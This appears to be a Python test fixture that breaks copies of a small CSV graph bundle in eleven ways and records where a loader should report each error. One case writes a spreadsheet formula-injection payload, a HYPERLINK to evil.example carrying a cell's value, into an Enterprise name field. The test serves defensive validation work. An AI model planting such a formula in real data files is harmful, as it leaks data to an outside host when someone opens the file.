"""A corpus of broken bundles: each case breaks a copy of tests/bundles/tiny in one way, and says
where the loader must point (file, row, column)."""
from __future__ import annotations

from pathlib import Path

from support.files import read_csv, write_csv


def _gbk(bundle: Path) -> Path:
    text = (bundle / "nodes" / "Person.csv").read_text(encoding="utf-8")
    (bundle / "nodes" / "Person.csv").write_bytes(text.encode("gbk"))
    return bundle


def _truncated(bundle: Path) -> Path:
    data = (bundle / "nodes" / "Region.csv").read_bytes()
    cut = data.index("西坡村".encode()) - 5
    (bundle / "nodes" / "Region.csv").write_bytes(data[:cut] + b'"unterminated')
    return bundle


def _short_row(bundle: Path) -> Path:
    data = (bundle / "nodes" / "Enterprise.csv").read_text(encoding="utf-8")
    (bundle / "nodes" / "Enterprise.csv").write_text(data + "E-3,半行\n", encoding="utf-8")
    return bundle


def _header_typo(bundle: Path) -> Path:
    rows = read_csv(bundle / "nodes" / "Enterprise.csv")
    rows[0][4] = "employes"
    write_csv(bundle / "nodes" / "Enterprise.csv", rows)
    return bundle


def _duplicate_across_files(bundle: Path) -> Path:
    rows = read_csv(bundle / "nodes" / "IndustryChain.csv")
    rows.append(["E-1", "重复的链", "茶叶"])
    write_csv(bundle / "nodes" / "IndustryChain.csv", rows)
    return bundle


def _wrong_label_at_end(bundle: Path) -> Path:
    write_csv(bundle / "rels" / "LOCATED_IN.csv", [["from", "to"], ["E-1", "O-V1"]])
    return bundle


def _self_loop(bundle: Path) -> Path:
    rows = read_csv(bundle / "rels" / "PART_OF.csv")
    rows.append(["R-T1", "R-T1"])
    write_csv(bundle / "rels" / "PART_OF.csv", rows)
    return bundle


def _empty_file(bundle: Path) -> Path:
    (bundle / "rels" / "WORKS_AT.csv").write_bytes(b"")
    return bundle


def _huge_line(bundle: Path) -> Path:
    with open(bundle / "nodes" / "Person.csv", "ab") as handle:
        handle.write(b"P-9," + b"x" * (100 * 1024 * 1024) + b",,,,,\n")
    return bundle


def _formula(bundle: Path) -> Path:
    rows = read_csv(bundle / "nodes" / "Enterprise.csv")
    rows[2][1] = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    write_csv(bundle / "nodes" / "Enterprise.csv", rows)
    return bundle


def _unknown_file(bundle: Path) -> Path:
    write_csv(bundle / "nodes" / "Villages.csv", [["id", "name"], ["V-1", "某村"]])
    return bundle


# name → (how to break the bundle, the file named, the row, the column or None)
CORPUS = {
    "gbk encoding": (_gbk, "nodes/Person.csv", 2, "B"),
    "truncated csv": (_truncated, "nodes/Region.csv", None, None),
    "short row": (_short_row, "nodes/Enterprise.csv", 4, None),
    "header typo": (_header_typo, "nodes/Enterprise.csv", 1, "E (employes)"),
    "duplicate id across files": (_duplicate_across_files, "nodes/IndustryChain.csv", 3, "A (id)"),
    "wrong label at an end": (_wrong_label_at_end, "rels/LOCATED_IN.csv", 2, "B (to)"),
    "relationship to itself": (_self_loop, "rels/PART_OF.csv", 6, "A (from)"),
    "empty file": (_empty_file, "rels/WORKS_AT.csv", 1, None),
    "100 MB line": (_huge_line, "nodes/Person.csv", 4, None),
    "formula cell": (_formula, "nodes/Enterprise.csv", 3, "B (name)"),
    "unknown file": (_unknown_file, "nodes/Villages.csv", None, None),
}
